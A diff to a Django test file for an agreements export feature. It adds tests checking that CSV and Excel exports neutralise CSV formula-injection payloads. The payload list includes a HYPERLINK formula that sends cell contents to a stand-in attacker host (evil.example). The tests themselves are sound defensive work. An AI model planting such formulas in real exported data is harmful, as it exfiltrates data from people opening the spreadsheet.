@@ -10,6 +10,7 @@ from openpyxl import load_workbook
 
 from agreements.exports import COLUMNS
 from agreements.models import Agreement
+from tests.factories import make_agreement
 
 pytestmark = pytest.mark.django_db
 
@@ -183,9 +184,27 @@ def test_reversed_years_and_unknown_country(client):
     assert read_json(client.get("/en/agreements/export.json", {"country": "XX"})) == []
 
 
-def test_nul_byte_in_q_gives_an_empty_export(client):
-    assert read_json(client.get("/en/agreements/export.json", {"q": "Japan\x00"})) == []
+def test_a_nul_byte_in_q_separates_words_as_on_the_search_page(client):
+    japan = read_json(client.get("/en/agreements/export.json", {"q": "Japan"}))
+    assert japan and read_json(client.get("/en/agreements/export.json", {"q": "Japan\x00"})) == japan
 
 
 def test_unknown_format_is_404(client):
     assert client.get("/en/agreements/export.pdf").status_code == 404
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd"]
+
+
+@pytest.mark.parametrize("title", FORMULAS)
+def test_a_cell_that_would_start_a_formula_stays_text(client, title):
+    make_agreement(title=title, slug="formula", book_order=0)
+    # CSV: OWASP's apostrophe in front. Excel: the very text, stored as a text cell.
+    row = next(row for row in read_csv(client.get("/en/agreements/export.csv")) if row["slug"] == "formula")
+    assert row["title"] == "'" + title
+    sheet = load_workbook(io.BytesIO(client.get("/en/agreements/export.xlsx").content)).active
+    header = [cell.value for cell in next(sheet.iter_rows())]
+    row = next(row for row in sheet.iter_rows() if row[header.index("slug")].value == "formula")
+    cell = row[header.index("title")]
+    # (openpyxl reads a leading carriage return back as a line feed)
+    assert cell.data_type == "s" and cell.value.strip() == title.strip()
